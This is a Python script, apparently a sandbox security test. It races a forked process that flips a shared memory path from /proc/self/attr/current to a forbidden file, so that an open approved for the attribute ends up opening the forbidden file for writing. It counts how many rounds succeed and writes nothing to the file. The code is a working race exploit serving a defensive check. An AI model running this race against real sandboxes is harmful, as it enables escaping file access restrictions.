"""Threat: a write open of /proc/self/attr/* (an LSM attribute: only the
task that opened it may write it, so the sandbox cannot open it on the
caller's behalf) continues in the kernel, which reads the path again:
another process sharing the page flips it to a forbidden file, and the
open decided on the attribute opens that file for writing.

First, with no one to share its memory, the plain open ("alone: ok").
Usage: race_attr.py FORBIDDEN ROUNDS
Prints "alone: ...", "opened: N" (attribute opens) and "won: N" (opens of
FORBIDDEN; nothing is written to it).
"""

import ctypes
import errno
import mmap
import os
import signal
import sys

DONE = 42
libc = ctypes.CDLL(None, use_errno=True)
libc.open.restype = ctypes.c_int
libc.open.argtypes = (ctypes.c_void_p, ctypes.c_int)
flags = os.O_WRONLY | os.O_CLOEXEC
attr = b"/proc/self/attr/current\0"

try:
    os.close(os.open(attr[:-1], flags))
    print("alone: ok", flush=True)
except OSError as e:
    print(f"alone: {errno.errorcode.get(e.errno, e.errno)}", flush=True)

other = os.fsencode(os.path.abspath(sys.argv[1])) + b"\0"
rounds = int(sys.argv[2])
size = max(len(attr), len(other))
states = [attr.ljust(size, b"\0"), other.ljust(size, b"\0")]
page = mmap.mmap(-1, mmap.PAGESIZE)  # MAP_SHARED: the flipper (a fork) writes it
page[:size] = states[0]
buf = ctypes.addressof(ctypes.c_char.from_buffer(page))
ready_r, ready_w = os.pipe()
flipper = os.fork()
if flipper == 0:
    os.write(ready_w, b"x")
    i = 0
    while True:
        page[:size] = states[i & 1]
        i += 1
os.read(ready_r, 1)
opened = won = 0
for _ in range(rounds):
    seen = page[:size]  # only while the flipper runs
    while page[:size] == seen:
        pass
    fd = libc.open(buf, flags)
    if fd < 0:
        continue
    if os.readlink(f"/proc/self/fd/{fd}").startswith("/proc/"):
        opened += 1
    else:
        won += 1
    os.close(fd)
os.kill(flipper, signal.SIGKILL)
os.waitpid(flipper, 0)
print(f"opened: {opened}", flush=True)
print(f"won: {won}", flush=True)
sys.exit(DONE)
